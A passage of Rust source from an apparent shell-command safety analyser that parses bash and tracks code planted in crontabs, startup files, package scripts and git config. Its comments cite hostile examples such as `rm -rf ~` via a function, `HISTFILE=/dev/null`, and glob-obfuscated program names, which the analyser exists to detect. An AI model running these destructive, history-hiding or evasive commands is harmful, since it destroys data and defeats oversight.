                    self.issues.push(Issue { kind: IssueKind::TooMany, span, detail: "word limit reached".into() });
                }
                break;
            }
            match c.kind() {
                k::VARIABLE_ASSIGNMENT if program.is_none() => {
                    if let Some(a) = self.assignment(c, ctx, false) {
                        env_assign.push(a);
                    }
                }
                k::COMMAND_NAME => {
                    let inner = c.named_child(0).unwrap_or(c);
                    program = Some(self.word(inner, ctx, false));
                }
                k::FILE_REDIRECT => {
                    if let Some(r) = self.file_redirect(c, ctx) {
                        redirects.push(r);
                    }
                }
                k::HERESTRING_REDIRECT | k::HEREDOC_REDIRECT => {}
                k::SUBSHELL => {
                    self.statement(c, ctx);
                }
                // The grammar reads the descriptor of `sh 0<&2` or `cat 0<f` as a
                // number argument when the redirect follows the command: bash
                // reads a redirect, so the digits are not an operand.
                "number" if fd_before_redirect(node, c) => {}
                _ => {
                    let w = self.word(c, ctx, false);
                    // The grammar splits some words (`"$HOME/."\b\a`) into
                    // adjacent nodes; with no space between, they are one word.
                    match args.last_mut() {
                        Some(prev) if prev_end == Some(c.start_byte()) => self.join_words(prev, w),
                        _ => args.push(w),
                    }
                    prev_end = Some(c.end_byte());
                    continue;
                }
            }
            prev_end = None;
        }
        if let Some(p) = program.as_ref().filter(|p| matches!(p.raw.as_str(), "fi" | "then" | "else" | "elif" | "do" | "done" | "esac")) {
            // A reserved word where a command starts: bash rejects it (`fi` alone), the grammar reads a command (IRT-33).
            self.issues.push(Issue { kind: IssueKind::Syntax, span: p.span, detail: format!("reserved word `{}` out of place", p.raw) });
        }
        let Some(program) = program else {
            // Only assignments: they set variables for the rest of the script.
            for a in &env_assign {
                let var = if a.value.dynamic { Var::Unknown } else { Var::Known(a.value.text.clone()) };
                self.vars.insert(a.name.clone(), var);
                self.var_origins.insert(a.name.clone(), (a.value.sources.clone(), a.value.tricks.clone()));
            }
            let ends = self.assignment_command(env_assign, span, ctx);
            for &id in &ends.first {
                self.commands[id].redirects.extend(redirects.iter().cloned());
            }
            return ends;
        };
        let mut fields = split_fields(program, self.env);
        let program = fields.remove(0);
        let mut all_args = fields;
        for a in args {
            all_args.extend(split_fields(a, self.env));
        }
        let stdin_file = redirects.iter().rev().find(|r| r.op == RedirectOp::Read).map(|r| r.target.clone());
        let Some(id) = self.build(program, all_args, env_assign, span, ctx) else { return Ends::default() };
        self.commands[id].redirects.extend(redirects);
        if let Some(path) = stdin_file {
            self.set_stdin(id, Input::File { path });
        }
        let mut cursor = node.walk();
        let inline: Vec<_> = node.named_children(&mut cursor).filter(|c| matches!(c.kind(), k::HERESTRING_REDIRECT | k::HEREDOC_REDIRECT)).collect();
        let ends = Ends::one(id);
        for r in inline {
            self.apply_redirect(r, &ends, id, ctx);
        }
        self.track_written_code(id, ctx);
        ends
    }

    /// A bare `NAME=value` statement, lowered as `export NAME=value`: the
    /// variable is set for the rest of the session either way, and rules
    /// look in one place (`HISTFILE=/dev/null`, `PROMPT_COMMAND=…`).
    fn assignment_command(&mut self, assignments: Vec<Assignment>, span: Span, ctx: &Ctx) -> Ends {
        if assignments.is_empty() {
            return Ends::default();
        }
        let program = Word::literal("export", (span.0, span.0), PathClass::Workspace);
        let args: Vec<Word> = assignments
            .iter()
            .map(|a| {
                let mut w = a.value.clone();
                w.text = format!("{}={}", a.name, a.value.text);
                w.raw = format!("{}={}", a.name, a.value.raw);
                w
            })
            .collect();
        match self.build(program, args, Vec::new(), span, ctx) {
            Some(id) => Ends::one(id),
            None => Ends::default(),
        }
    }

    /// The file of a `$(< FILE)` substitution, as written; `None` for any
    /// other substitution.
    fn read_substitution(&self, node: Node<'_>) -> Option<String> {
        let mut cursor = node.walk();
        let kids: Vec<_> = node.named_children(&mut cursor).collect();
        let [r] = kids.as_slice() else { return None };
        if r.kind() != k::FILE_REDIRECT || r.child_by_field_name("descriptor").is_some() {
            return None;
        }
        let mut cursor = r.walk();
        let op = r.children(&mut cursor).find(|c| !c.is_named())?;
        if op.kind() != "<" {
            return None;
        }
        let dest = r.child_by_field_name("destination")?;
        Some(self.text(dest).to_string())
    }

    /// Appends `next` to `prev` (two nodes of one shell word).
    fn join_words(&self, prev: &mut Word, next: Word) {
        prev.text.push_str(&next.text);
        prev.raw.push_str(&next.raw);
        prev.span.1 = next.span.1;
        prev.dynamic |= next.dynamic;
        prev.glob |= next.glob;
        prev.sources.extend(next.sources);
        prev.tricks.extend(next.tricks);
        prev.tricks.sort_unstable();
        prev.tricks.dedup();
        if !prev.dynamic && !prev.glob {
            prev.path = classify(&prev.text.replace(FIELD_BREAK, " "), &self.cwd_env());
        }
    }

    /// Adds a simple command (and whatever it wraps) to the script.
    pub(super) fn build(&mut self, program: Word, args: Vec<Word>, env: Vec<Assignment>, span: Span, ctx: &Ctx) -> Option<usize> {
        if self.full(span) {
            return None;
        }
        let mut program = program;
        if program.text.is_empty() && program.raw.is_empty() {
            return None;
        }
        let (folded, changed) = words::fold_confusables(&program.text);
        if changed && !program.tricks.contains(&Trick::Unicode) {
            program.tricks.push(Trick::Unicode);
        }
        let name = folded.rsplit('/').next().unwrap_or_default().to_string();
        let name = if name.is_empty() { folded.clone() } else { name };
        if program.dynamic || program.glob {
            self.issues.push(Issue {
                kind: IssueKind::DynamicProgram,
                span: program.span,
                detail: format!("program name `{}` is not known before it runs", program.raw),
            });
        }
        if program.glob && !program.dynamic {
            if let Some(first) = self.glob_candidates(&name, &program, &args, &env, span, ctx) {
                return Some(first);
            }
        }
        let is_function = self.functions.contains(&name);
        let spec = if is_function || program.dynamic { None } else { super::spec::lookup(&name) };
        let mut argv = normalize(&args, spec);
        if spec.is_none() && !program.dynamic && super::spec::BUILTINS.contains(&name.as_str()) {
            argv.known = true;
            argv.effects = vec![super::spec::Effect::None];
        }
        // `./bin/dev`, `vendor/bin/phpstan`, `./target/debug/app`: the
        // project's own program, run from the workspace. What it does is the
        // project's code (as `python script.py` is); downloads run this way
        // are the remote-code rules' business.
        if spec.is_none()
            && !is_function
            && !program.dynamic
            && !program.glob
            && program.text.contains('/')
            && matches!(program.path, PathClass::Workspace | PathClass::Artefact)
        {
            argv.known = true;
            argv.effects = vec![super::spec::Effect::Exec];
        }
        let id = self.commands.len();
        self.commands.push(Command {
            id,
            name,
            program,
            args,
            argv,
            redirects: Vec::new(),
            env,
            span,
            origin: ctx.origin.clone().unwrap_or(Origin::Direct),
            depth: ctx.depth,
            privileged: ctx.privileged,
            remote: ctx.remote.clone(),
            stdin: None,
            pipes_to: None,
            executes_stdin: false,
            background: false,
            wraps: None,
            is_function,
            project: self.projects.last().map(|p| p.name.clone()),
            project_line: self.projects.last().and_then(|p| p.line),
        });
        self.unwrap(id, ctx);
        if is_function {
            self.expand_call(id, ctx);
        } else {
            self.run_written_file(id, ctx);
        }
        self.track_cd(id);
        self.track_variables(id, ctx);
        Some(id)
    }

    /// Shell code written into a script or a place that runs later (`echo
    /// 'cmd' >> x.sh`, `sed -i '1a cmd' x.sh`, `tee -a ~/.bashrc`, a recipe
    /// redirected into a `Makefile`, `npm pkg set scripts.X=…`, a table piped
    /// into `crontab -`) is analysed as a script of its own, with
    /// `Origin::Definition { name: "file:PATH" }`: POLICY.md judges it as
    /// what it will run. The writer is found behind modifier wrappers
    /// (`command echo`, `builtin printf`, `sudo tee`, `nice sed -i`); the
    /// payload is cut out of the text by the place's format
    /// ([`super::later`]).
    pub(super) fn track_written_code(&mut self, id: usize, ctx: &Ctx) {
        use super::later::{self, Place};
        if self.tracked_writes.contains(&id) {
            return;
        }
        let w = self.writer_behind_wrappers(id);
        if !matches!(self.commands[w].name.as_str(), "echo" | "printf" | "cat" | "tee" | "sed" | "perl" | "npm" | "pnpm" | "jq" | "yq" | "crontab" | "git") {
            return;
        }
        let c = self.commands[w].clone();
        let mut redirects = self.commands[id].redirects.clone();
        if w != id {
            redirects.extend(c.redirects.iter().cloned());
        }
        let mut writes: Vec<(String, Place, String, Span)> = Vec::new();
        let mut target = None;
        for r in redirects.iter().rev().filter(|r| r.op.writes() && matches!(r.fd, None | Some(1))) {
            if let Some(p) = self.written_place(&r.target, id, false) {
                target = Some((r.target.text.clone(), p));
                break;
            }
        }
        let in_place = c.args.iter().any(|a| a.text.starts_with("-i") || a.text == "--in-place" || a.text.starts_with("-pi") || a.text.starts_with("-0pi"));
        match c.name.as_str() {
            "echo" | "printf" | "cat" => {
                // A heredoc's body is where the written code stands.
                let at = match &c.stdin {
                    Some(Input::Heredoc { span, .. }) if c.name == "cat" => *span,
                    _ => c.span,
                };
                if let (Some((t, p)), Some(text)) = (target, self.static_output(w, 0)) {
                    writes.push((t, p, text, at));
                }
            }
            "tee" => {
                let files: Vec<(String, Place)> =
                    c.argv.operands.iter().filter_map(|o| self.written_place(o, id, false).map(|p| (o.text.clone(), p))).collect();
                if let Some(text) = self.tee_input(w) {
                    for (f, p) in files {
                        writes.push((f, p, text.clone(), c.span));
                    }
                }
            }
            "sed" | "perl" if in_place => {
                let perl = c.name == "perl";
                let expr = if perl {
                    c.flag_value(&["-e", "-E"])
                        .map(|w| w.text.clone())
                        .or_else(|| c.args.iter().find(|a| a.text.starts_with("-pi") && a.text.contains("-e")).map(|_| String::new()))
                } else {
                    c.flag_value(&["-e", "--expression"]).map(|w| w.text.clone()).or_else(|| c.argv.operands.first().map(|w| w.text.clone()))
                };
                let skip = usize::from(!perl && c.flag_value(&["-e", "--expression"]).is_none());
                let files: Vec<(String, Place)> =
                    c.argv.operands.iter().skip(skip).filter_map(|o| self.written_place(o, id, true).map(|p| (o.text.clone(), p))).collect();
                if let (Some(expr), Some((file, p))) = (expr, files.first()) {
                    if let Some(text) = inserted_text(&expr, perl) {
                        writes.push((file.clone(), *p, text, c.span));
                    }
                }
            }
            "npm" | "pnpm" if c.args.first().is_some_and(|a| a.text == "pkg") && c.args.get(1).is_some_and(|a| a.text == "set") => {
                for a in c.args.iter().skip(2).filter(|a| !a.dynamic) {
                    if let Some((key, value)) = a.text.strip_prefix("scripts.").and_then(|kv| kv.split_once('=')) {
                        let file = format!("package.json#scripts.{key}");
                        writes.push((file, Place::Shell, value.to_string(), a.span));
                    }
                }
            }
            "jq" | "yq" => {
                let manifest = c.argv.operands.iter().skip(1).any(|o| o.text.rsplit('/').next() == Some("package.json"));
                if let Some(filter) = c.argv.operands.first().filter(|f| manifest && !f.dynamic) {
                    for (key, value) in later::jq_script_sets(&filter.text) {
                        writes.push((format!("package.json#scripts.{key}"), Place::Shell, value, filter.span));
                    }
                }
            }
            "git" if c.is_sub(&["config"]) => {
                // `git config [--global] KEY VALUE` with a command-valued key:
                // the value runs on later git operations (`core.pager`,
                // `core.sshCommand`, filter drivers), an alias or credential
                // helper when it starts with `!`.
                let ops: Vec<&Word> = c.argv.operands.iter().filter(|w| !matches!(w.text.as_str(), "set" | "add")).collect();
                let reads =
                    c.argv.flags.iter().any(|f| f.name.starts_with("--get") || f.name.starts_with("--unset") || matches!(f.name.as_str(), "-l" | "--list"));
                if let (false, [key, value, ..]) = (reads, ops.as_slice()) {
                    let k = key.text.to_ascii_lowercase();
                    let bang = k.starts_with("alias.") || k == "credential.helper" || k.starts_with("credential.") && k.ends_with(".helper");
                    let code = if bang { value.text.strip_prefix('!').map(str::to_string) } else { Some(value.text.clone()) };
                    if let Some(code) = code.filter(|_| !key.dynamic && programs::git_command_key(&k)) {
                        writes.push((format!("git config {}", key.text), Place::Shell, code, value.span));
                    }
                }
            }
            "crontab"
                if c.argv.operands.first().is_some_and(|o| o.text == "-")
                    || c.argv.operands.is_empty() && matches!(c.stdin, Some(Input::Pipe { .. } | Input::HereString { .. } | Input::Heredoc { .. })) =>
            {
                // `(crontab -l; echo '…') | crontab -`: every command piped in
                // whose output is known adds its lines (the old table is not ours to read).
                let text = self.tee_input(w).or_else(|| {
                    let fed: Vec<String> =
                        self.commands.iter().filter(|p| p.pipes_to == Some(id) || p.pipes_to == Some(w)).filter_map(|p| self.static_output(p.id, 0)).collect();
                    (!fed.is_empty()).then(|| fed.join(""))
                });
                if let Some(text) = text {
                    writes.push(("crontab".to_string(), Place::Cron, text, c.span));
                }
            }
            _ => {}
        }
        if !writes.is_empty() {
            self.tracked_writes.insert(id);
        }
        // A manifest written whole plants each of its scripts under its own name
        // (`package.json#scripts.postinstall` runs on install, `#scripts.lint` when named).
        let writes: Vec<(String, Place, String, Span)> = writes
            .into_iter()
            .flat_map(|(file, place, text, span)| match place {
                Place::Manifest => later::scripts(&text).into_iter().map(|(k, v)| (format!("{file}#scripts.{k}"), Place::Shell, v, span)).collect(),
                _ => vec![(file, place, text, span)],
            })
            .collect();
        for (file, place, text, span) in writes {
            let text = later::payload(place, &file, &text);
            if text.trim().is_empty() {
                continue;
            }
            let inner = ctx.nested(Origin::Definition { name: format!("file:{file}") });
            if let Place::Code(lang) = place {
                // Code written now runs when a tool picks it up: what it does
                // counts, and what the reader leaves unexplained does not ask
                // about a write (it is judged again if this line runs it).
                let gaps_from = self.issues.len();
                self.embedded_code(lang, &text, span, &inner);
                self.keep_read_gaps(gaps_from);
            } else {
                self.nested_script(&text, None, span, &inner);
            }
        }
    }

    /// The command that writes for `id`: itself, or the one command a
    /// modifier, `env`, privilege or `busybox` wrapper runs (`command echo`,
    /// `builtin printf`, `sudo tee`, `nice sed -i`).
    fn writer_behind_wrappers(&self, id: usize) -> usize {
        let mut at = id;
        for _ in 0..8 {
            match self.commands[at].wraps.as_ref().map(|w| (w.kind, w.inner.as_slice())) {
                Some((WrapperKind::Modifier | WrapperKind::Env | WrapperKind::Privilege | WrapperKind::Busybox, [inner])) => at = *inner,
                _ => break,
            }
        }
        at
    }

    /// The text a command reads on stdin, when known (a heredoc, a
    /// here-string, a pipe from a command whose output is known).
    pub(super) fn tee_input(&self, id: usize) -> Option<String> {
        match &self.commands[id].stdin {
            Some(Input::Heredoc { body, .. }) => Some(body.clone()),
            Some(Input::HereString { word }) if !word.dynamic => Some(format!("{}\n", word.text)),
            Some(Input::Pipe { from }) => self.static_output(*from, 0),
            _ => None,
        }
    }

    /// The run-later place a written word names: by its name
    /// ([`super::later::place`]), a start-up path, a script by its
    /// extension, or (for an in-place edit, `by_shebang`) a file this command
    /// line wrote with a shell `#!` line. Text appended to a file written
    /// here is the file table's business when the file runs (`files.rs`).
    fn written_place(&mut self, word: &Word, before: usize, by_shebang: bool) -> Option<super::later::Place> {
        use super::later::{self, Place};
        if word.dynamic || word.glob {
            return None;
        }
        let norm = super::paths::normalize(&word.text, &self.cwd_env());
        if let Some(p) = later::place(&norm) {
            return Some(p);
        }
        let t = word.text.to_ascii_lowercase();
        // `authorized_keys` lists keys, not commands: its own rules judge it.
        if t.rsplit('/').next().is_some_and(|b| b.starts_with("authorized_keys")) {
            return None;
        }
        let script = word.path == PathClass::Startup
            || [".sh", ".bash", ".zsh", ".ksh", ".command"].iter().any(|e| t.ends_with(e))
            || ["postinstall", "preinstall", "prepare", "install", "entrypoint", "init"].iter().any(|n| t.rsplit('/').next() == Some(*n));
        if script || !by_shebang {
            return script.then_some(Place::Shell);
        }
        let text = self.written(&norm, before, 0).and_then(|w| w.text)?;
        let interp = text.lines().next()?.strip_prefix("#!")?;
        let prog = interp.split_whitespace().find(|w| !w.ends_with("/env") && !w.starts_with('-'))?;
        super::programs::is_shell(prog.rsplit('/').next().unwrap_or_default()).then_some(Place::Shell)
    }

    /// Code a variable makes a program run (`grammars/environment.toml`): a
    /// command line (`PAGER=…`, `GIT_SSH_COMMAND=…`) or prompt is lowered as a
    /// script with `Origin::Definition { name }`; a file of code (`BASH_ENV`,
    /// `NODE_OPTIONS=--require F`) that this command line wrote is lowered as
    /// the code it holds; a `GIT_CONFIG_VALUE_<n>` whose `GIT_CONFIG_KEY_<n>`
    /// is a git key holding a command is lowered as that command. Libraries
    /// and files not written here are the rules' business (`EVA009`).
    pub(super) fn environment_code(&mut self, name: &str, value: &Word, ctx: &Ctx) {
        use super::environment::{self, Runs};
        let Some(var) = environment::lookup(name) else { return };
        let inner = ctx.nested(Origin::Definition { name: name.to_string() });
        match var.runs {
            Runs::Command | Runs::Prompt => {
                let code = if var.runs == Runs::Prompt { value.raw.trim_matches(|c| c == '\'' || c == '"').to_string() } else { value.text.clone() };
                // `LESSOPEN='|cmd %s'`: the leading bars say how less reads the output.
                let code = code.trim_start_matches('|');
                if !code.trim().is_empty() {
                    self.nested_script(code, None, value.span, &inner);
                }
            }
            Runs::File => {
                if let Some(lang) = var.language {
                    self.load_written(&value.text, lang, &inner);
                }
            }
            Runs::Options => {
                if let Some(lang) = var.language {
                    for file in var.code_files(&value.text) {
                        self.load_written(&file, lang, &inner);
                    }
                }
            }
            Runs::GitConfig => {
                let Some((is_value, n)) = environment::git_config_index(name) else { return };
                let entry = self.git_config.entry(n.to_string()).or_default();
                if is_value {
                    entry.1 = Some(value.clone());
                } else {
                    entry.0 = Some(value.text.clone());
                }
                if let (Some(key), Some(code)) = (entry.0.clone(), entry.1.clone()) {
                    if programs::git_command_key(&key) && !code.text.trim().is_empty() {
                        let text = code.text.strip_prefix('!').unwrap_or(&code.text).to_string();
                        self.nested_script(&text, None, code.span, &inner);
                    }
                }
            }
            Runs::Library | Runs::LibraryPath => {}
        }
    }

    /// A file of code a variable makes a program load: when this command
    /// line wrote it, its text is lowered in `lang`, spans at the writer.
    fn load_written(&mut self, file: &str, lang: super::spec::Language, ctx: &Ctx) {
        let path = super::paths::normalize(file, &self.cwd_env());
        if self.running_files.contains(&path) {
            return;
        }
        let Some(written) = self.written(&path, self.commands.len(), 0) else { return };
        let Some(text) = written.text else { return };
        self.running_files.push(path);
        if lang == super::spec::Language::Shell {
            self.nested_script(&text, None, written.at, ctx);
        } else {
            self.embedded_code(lang, &text, written.at, ctx);
        }
        self.running_files.pop();
    }

    /// A call of a function or alias defined earlier in the script: the body
    /// is lowered again where it is called, with `$0`, `$1`, … bound to the
    /// call's words (a function), or the call's words appended (an alias),
    /// so `f() { rm -rf "$1"; }; f ~` is judged as `rm -rf ~`. Recursion stops
    /// at a call of a function being expanded; past [`MAX_EXPANSIONS`] calls
    /// the definition alone is judged.
    fn expand_call(&mut self, id: usize, ctx: &Ctx) {
        let c = &self.commands[id];
        let name = c.name.clone();
        if c.program.dynamic || self.expanding.contains(&name) || self.expansions >= MAX_EXPANSIONS {
            return;
        }
        let span = c.span;
        let quote = |t: &str| format!("'{}'", t.replace('\'', r"'\''"));
        let (text, positional) = if let Some(body) = self.aliases.get(&name) {
            let args: Vec<String> = c.args.iter().map(|a| if a.dynamic || a.glob { a.raw.clone() } else { quote(&a.text) }).collect();
            (format!("{body} {}", args.join(" ")), None)
        } else if let Some(body) = self.bodies.get(&name) {
            let mut words = vec![c.program.clone()];
            words.extend(c.args.iter().cloned());
            (body.clone(), Some(words))
        } else {
            return;
        };
        self.expansions += 1;
        self.expanding.push(name);
        let inner = ctx.nested(Origin::Wrapped { wrapper: id });
        let saved = positional.map(|p| self.bind_positional(&p));
        let ends = self.nested_script(&text, None, span, &inner);
        if let Some(saved) = saved {
            self.restore_positional(saved);
        }
        self.expanding.pop();
        let ids = self.collect_ids(ends);
        if !ids.is_empty() && self.commands[id].wraps.is_none() {
            self.commands[id].wraps = Some(super::Wrapped { kind: super::WrapperKind::Shell, inner: ids });
        }
    }

    /// Builtins that set or clear variables, define aliases, and `dd`'s
    /// `if=`/`of=` operands, whose values are paths.
    fn track_variables(&mut self, id: usize, ctx: &Ctx) {
        let c = &self.commands[id];
        let name = c.name.clone();
        let operands: Vec<Word> = c.argv.operands.clone();
        match name.as_str() {
            "unset" => {
                for w in operands.iter().filter(|w| !w.text.starts_with('-')) {
                    self.vars.insert(w.text.clone(), Var::Known(String::new()));
                }
            }
            "read" | "readarray" | "mapfile" | "getopts" => {
                for w in &operands {
                    self.vars.insert(w.text.clone(), Var::Unknown);
                }
                if name == "getopts" || name == "read" && operands.is_empty() {
                    self.vars.insert("REPLY".into(), Var::Unknown);
                }
            }
            "printf" => {
                if let Some(v) = self.commands[id].flag_value(&["-v"]).map(|w| w.text.clone()) {
                    self.vars.insert(v, Var::Unknown);
                }
            }
            "declare" | "typeset" | "local" if self.commands[id].has_flag("-n") => {
                for w in &operands {
                    let n = w.text.split('=').next().unwrap_or_default().to_string();
                    self.vars.insert(n, Var::Unknown);
                }
            }
            "alias" => {
                for w in operands {
                    if let Some((alias, body)) = w.text.split_once('=') {
                        self.functions.insert(alias.to_string());
                        self.aliases.insert(alias.to_string(), body.to_string());
                        let inner = ctx.nested(Origin::Definition { name: alias.to_string() });
                        self.nested_script(body, None, w.span, &inner);
                    }
                }
            }
            "dd" => {
                let env = self.cwd_env();
                for w in &mut self.commands[id].argv.operands {
                    if let Some((key, value)) = w.text.split_once('=') {
                        if matches!(key, "if" | "of") && !w.dynamic {
                            w.path = classify(value, &env);
                        }
                    }
                }
            }
            _ => {}
        }
    }

    /// A program name that is a glob (`/bin/r?`): every known program it can
    /// match is analysed as if written, so the worst reading decides.
    fn glob_candidates(&mut self, pattern: &str, program: &Word, args: &[Word], env: &[Assignment], span: Span, ctx: &Ctx) -> Option<usize> {
        let names: Vec<&'static str> = super::spec::known_names().filter(|n| words::glob_match(pattern, n)).take(8).collect();
        let mut first = None;
        for name in names {
            let mut p = program.clone();
            p.text = name.to_string();
            p.glob = false;
            p.tricks.push(Trick::SplitQuoting);
            let id = self.build(p, args.to_vec(), env.to_vec(), span, ctx)?;
            // Each reading plants what it would plant (`/usr/bin/gi? config alias.x '!…'`).
            self.track_written_code(id, ctx);
            first.get_or_insert(id);
        }
        first
    }

    /// `cd DIR` moves where later relative paths point; to a directory known
    /// only at run time, relative paths become unknown.
    fn track_cd(&mut self, id: usize) {
        let c = &self.commands[id];
        if c.name != "cd" && c.name != "pushd" && c.name != "popd" {
            return;
        }
        let target = c.argv.operands.first();
        let next = match (c.name.as_str(), target) {
            ("popd", _) => Some(None),
            (_, None) => Some(Some(self.env.home.clone())),
            (_, Some(w)) if w.text == "-" => self.prev_cwd.clone().unwrap_or(None).map(Some).or(Some(None)).filter(|_| self.prev_cwd.is_some()),
            (_, Some(w)) if !w.dynamic && !w.glob => match &self.cwd {
                Some(None) if !w.text.starts_with('/') && !w.text.starts_with('~') => Some(None),
                _ => {
                    let abs = super::paths::normalize(&w.text, &self.cwd_env());
                    (abs != self.env.workspace).then_some(Some(abs))
                }
            },
            (_, Some(_)) => Some(None),
        };
        self.prev_cwd = Some(self.cwd.clone().unwrap_or(None));
        self.cwd = next;
    }

    pub(super) fn cwd_env(&self) -> Env {
        let ws = match &self.cwd {
            Some(Some(c)) => c.clone(),
            _ => self.env.workspace.clone(),
        };
        Env { workspace: ws, ..self.env.clone() }
    }

    /// Resolves a word node. `quoted` is true inside double quotes, where
    /// expansions are not split into fields.
    pub(super) fn word(&mut self, node: Node<'_>, ctx: &Ctx, quoted: bool) -> Word {
        self.words += 1;
        let span = self.span(node);
        let raw = self.text(node);
        let mut w = Word {
            text: String::new(),
            raw: raw.clone(),
            span,
            dynamic: false,
            glob: false,
            sources: Vec::new(),
            tricks: Vec::new(),
            path: PathClass::Workspace,
        };
        let mut literal_prefix: Option<usize> = None;
        self.resolve_into(node, ctx, quoted, &mut w, &mut literal_prefix);
        w.tricks.sort_unstable();
        w.tricks.dedup();
        let (_, unicode) = words::fold_confusables(&w.text);
        if unicode {
            w.tricks.push(Trick::Unicode);
        }
        let mut text_no_breaks = w.text.replace(FIELD_BREAK, " ");
        // A `~` that came from quotes or a variable, or one bash does not
        // expand (`~'sq'`), is a literal file name.
        let tilde_kept =
            node.kind() == k::CONCATENATION && node.child_count() > 1 && node.child(0).is_some_and(|f| f.kind() == k::WORD && !self.text(f).contains('/'));
        if text_no_breaks.starts_with('~') && (!raw.starts_with('~') || tilde_kept) {
            text_no_breaks = format!("./{text_no_breaks}");
        }
        let relative = !text_no_breaks.starts_with('/') && !text_no_breaks.starts_with('~') && !text_no_breaks.contains("://");
        let fallback = self.cwd_unchecked.as_ref().filter(|_| relative && !w.dynamic).map(|alt| {
            if !w.glob {
                classify(&format!("{alt}/{text_no_breaks}"), self.env)
            } else if matches!(text_no_breaks.as_str(), "*" | ".*" | "*.*" | "**") {
                classify(alt, self.env)
            } else {
                classify(&format!("{alt}/x"), self.env)
            }
        });
        match &self.cwd {
            Some(Some(cwd)) if relative => text_no_breaks = format!("{cwd}/{text_no_breaks}"),
            Some(None) if relative && !text_no_breaks.is_empty() => {
                w.path = PathClass::Dynamic;
                return w;
            }
            _ => {}
        }
        w.path = if w.dynamic || w.glob {
            let cut = literal_prefix.unwrap_or(text_no_breaks.len()).min(text_no_breaks.len());
            let mut prefix = text_no_breaks.get(..cut).unwrap_or_default().to_string();
            if w.glob {
                if let Some(g) = prefix.find(['*', '?', '[']) {
                    // A bare wildcard component (`*`, `.*`) stands for the
                    // whole directory; a partial one for a file inside it.
                    let comp_start = prefix[..g].rfind('/').map_or(0, |i| i + 1);
                    let comp_end = prefix[g..].find('/').map_or(prefix.len(), |i| g + i);
                    let bare = matches!(&prefix[comp_start..comp_end], "*" | ".*" | "*.*" | "?*" | "**");
                    prefix.truncate(if bare { comp_start } else { g });
                    if prefix.is_empty() {
                        prefix.push_str(if bare { "./" } else { "./x" });
                    }
                }
            }
            classify_prefix(&prefix, self.env)
        } else {
            classify(&text_no_breaks, self.env)
        };
        if let Some(alt) = fallback {
            w.path = super::paths::worse(w.path, alt);
        }
        w
    }

    fn note_dynamic(w: &mut Word, literal_prefix: &mut Option<usize>) {
        w.dynamic = true;
        if literal_prefix.is_none() {
            *literal_prefix = Some(w.text.len());
        }
    }

    fn resolve_into(&mut self, node: Node<'_>, ctx: &Ctx, quoted: bool, w: &mut Word, lp: &mut Option<usize>) {
        if self.nesting > MAX_NESTING * 4 {
            let span = self.span(node);
            self.too_deep(span, u32::MAX);
            Self::note_dynamic(w, lp);
            return;
        }
        self.nesting += 1;
        self.resolve_node(node, ctx, quoted, w, lp);
        self.nesting -= 1;
    }

    fn resolve_node(&mut self, node: Node<'_>, ctx: &Ctx, quoted: bool, w: &mut Word, lp: &mut Option<usize>) {
        let raw = self.text(node).replace(FIELD_BREAK, "");
        match node.kind() {
            k::WORD | "extglob_pattern" => {
                let mut text = raw;
                if !quoted {
                    if self.literal_tilde {
                        // Not a tilde-prefix (see CONCATENATION).
                    } else if text == "~" || text.starts_with("~/") {
                        text = format!("{}{}", self.env.home, &text[1..]);
                    } else if let Some(user) = text.strip_prefix('~').filter(|u| u.chars().next().is_some_and(|c| c.is_ascii_alphabetic())) {
                        let (user, rest) = user.split_once('/').map_or((user, ""), |(u, r)| (u, r));
                        let home = if user == "root" { "/root".to_string() } else { format!("/home/{user}") };
                        text = if rest.is_empty() { home } else { format!("{home}/{rest}") };
                    }
                    if words::has_unescaped_glob(&text) {
                        w.glob = true;
                    }
                    let (unesc, tricky) = words::unescape_bare(&text);
                    if tricky {
                        w.tricks.push(Trick::SplitQuoting);
                    }
                    text = unesc;
                    if text.contains('{') && text.contains(',') {
                        if let Some(parts) = words::expand_braces(&text) {
                            text = parts.join(&FIELD_BREAK.to_string());
                        }
                    }
                } else if text.contains('\\') {
                    // A bare word read without splitting (an assignment's value):
                    // quote removal still applies, `X='a '\''b'` is `a 'b`.
                    text = words::unescape_bare(&text).0;
                }
                w.text.push_str(&text);
            }
            k::NUMBER | k::VARIABLE_NAME | "test_operator" | "regex" | k::HEREDOC_START | "heredoc_content" => w.text.push_str(&raw),
            k::RAW_STRING => {
                w.text.push_str(raw.get(1..raw.len().saturating_sub(1)).unwrap_or_default());
            }
            k::ANSI_C_STRING => {
                let body = raw.get(2..raw.len().saturating_sub(1)).unwrap_or_default();
                let (decoded, coded) = words::decode_ansi_c(body);
                if coded {
                    w.tricks.push(Trick::EscapeCodes);
                }
                w.text.push_str(&decoded);
            }
            k::STRING | k::TRANSLATED_STRING => {
                let inner_node = if node.kind() == k::TRANSLATED_STRING { node.named_child(0).unwrap_or(node) } else { node };
                let start = inner_node.start_byte() + 1;
                let end = inner_node.end_byte().saturating_sub(1).max(start);
                let src = self.src();
                let mut pos = start;
                let mut cursor = inner_node.walk();
                let kids: Vec<_> = inner_node.named_children(&mut cursor).collect();
                for c in kids {
                    if c.start_byte() > pos {
                        w.text.push_str(&words::unescape_double(src.get(pos..c.start_byte()).unwrap_or_default()));
                    }
                    if c.kind() == k::STRING_CONTENT {
                        w.text.push_str(&words::unescape_double(&self.text(c)));
                    } else {
                        self.resolve_into(c, ctx, true, w, lp);
                    }
                    pos = c.end_byte();
                }
                if end > pos {
                    w.text.push_str(&words::unescape_double(src.get(pos..end).unwrap_or_default()));
                }
            }
            k::CONCATENATION => {
                let mut cursor = node.walk();
                let kids: Vec<_> = node.children(&mut cursor).collect();
                let mut quoted_parts = 0;
                let mut has_expansion = false;
                for c in &kids {
                    match c.kind() {
                        k::STRING | k::RAW_STRING | k::ANSI_C_STRING => quoted_parts += 1,
                        k::SIMPLE_EXPANSION | k::EXPANSION | k::COMMAND_SUBSTITUTION => has_expansion = true,
                        _ => {}
                    }
                }
                // `/usr/bin/[r]m`: the grammar cuts bracket globs into
                // several words, so the glob shows only in the whole.
                if !quoted && !has_expansion {
                    let unquoted: String = kids
                        .iter()
                        .map(|c| if matches!(c.kind(), k::STRING | k::RAW_STRING | k::ANSI_C_STRING) { "x".to_string() } else { self.text(*c) })
                        .collect();
                    if words::has_unescaped_glob(&unquoted) {
                        w.glob = true;
                    }
                }
                let before = w.text.len();
                // Text that came from quotes or expansions: no brace syntax there (IRT-50).
                let mut literal = Vec::new();
                let count = kids.len();
                for (i, c) in kids.into_iter().enumerate() {
                    let at = w.text.len() - before;
                    if c.is_named() {
                        // A tilde-prefix is expanded only at the start of the word and only
                        // when it is unquoted literal text up to the first `/` (IRT-53):
